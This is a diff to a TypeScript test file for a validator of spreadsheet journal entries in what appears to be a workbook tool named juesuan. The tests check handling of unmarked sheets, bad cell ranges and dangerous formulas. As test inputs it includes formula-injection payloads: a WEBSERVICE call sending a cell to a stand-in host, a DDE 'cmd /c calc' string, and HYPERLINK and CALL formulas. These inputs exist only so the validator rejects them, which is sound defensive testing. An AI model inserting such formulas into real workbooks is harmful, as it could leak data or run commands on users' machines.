@@ -34,10 +34,17 @@ describe('journalEntryProblem', () => {
     expect(journalEntryProblem(entry({ action: 'narrative', createdSheets: ['补充信息'] }), [])).toMatch(/“补充信息”/);
   });
 
-  test('until every host marks its sheets, the name an action gives its sheet passes unmarked', () => {
-    expect(journalEntryProblem(entry({ action: 'narrative', createdSheets: ['部门决算情况说明'] }), [])).toBeUndefined();
-    expect(journalEntryProblem(entry({ action: 'supplement', createdSheets: ['补充信息2'] }), [])).toBeUndefined();
-    expect(journalEntryProblem(entry({ action: 'highlight', createdSheets: ['审核结果'] }), [])).toBeUndefined();
+  test('an unmarked sheet is refused under any name, with what to do (a sheet an older juesuan created has no marker)', () => {
+    const unmarked = entry({ action: 'narrative', createdSheets: ['部门决算情况说明'] });
+    expect(journalEntryProblem(unmarked, [])).toMatch(/“部门决算情况说明”.*没有 juesuan 的新建标记.*旧版.*手动删除/);
+    expect(journalEntryProblem(entry({ action: 'supplement', createdSheets: ['补充信息2'] }), [])).toMatch(/“补充信息2”/);
+    expect(journalEntryProblem(entry({ action: 'highlight', createdSheets: ['审核结果'] }), [])).toMatch(/“审核结果”/);
+  });
+
+  test('a listed sheet the workbook no longer has is no problem: nothing to delete', () => {
+    const gone = entry({ action: 'narrative', createdSheets: ['部门决算情况说明'] });
+    expect(journalEntryProblem(gone, [], ['表1', '表2'])).toBeUndefined();
+    expect(journalEntryProblem(gone, [], ['表1', '部门决算情况说明'])).toMatch(/没有 juesuan 的新建标记/);
   });
 
   test('a range where a cell belongs, a column or row out of bounds', () => {
@@ -48,7 +55,7 @@ describe('journalEntryProblem', () => {
     expect(journalEntryProblem(entry({ rows: [{ sheet: '表1', row: 2e9, height: 3 }] }), [])).toMatch(/行号/);
   });
 
-  test('formulas reaching outside the workbook, and text a host could turn into one', () => {
+  test('formulas reaching outside the workbook are refused; text starting with "=" is text (every host restores it as text)', () => {
     const bad = (value: JournalEntry['cells'][number]['value']) =>
       journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'B2', value }] }), []);
     expect(bad({ formula: 'WEBSERVICE("http://x/?"&A1)' })).toMatch(/公式/);
@@ -56,7 +63,7 @@ describe('journalEntryProblem', () => {
     expect(bad({ formula: "cmd|' /c calc'!A0" })).toMatch(/公式/);
     expect(bad({ raw: { formula: 'HYPERLINK("http://x","y")', result: 'y' } })).toMatch(/公式/);
     expect(bad({ raw: { sharedFormula: 'A1', nested: ['=CALL("x")'] } })).toMatch(/公式/);
-    expect(bad('=1+1')).toMatch(/以“=”开头的文字/);
+    expect(bad('=1+1')).toBeUndefined();
     expect(bad({ formula: 'ROUND(SUM(B4:B9),2)+IF(C3>0,"(WEBSERVICE)",0)' })).toBeUndefined();
   });
 });
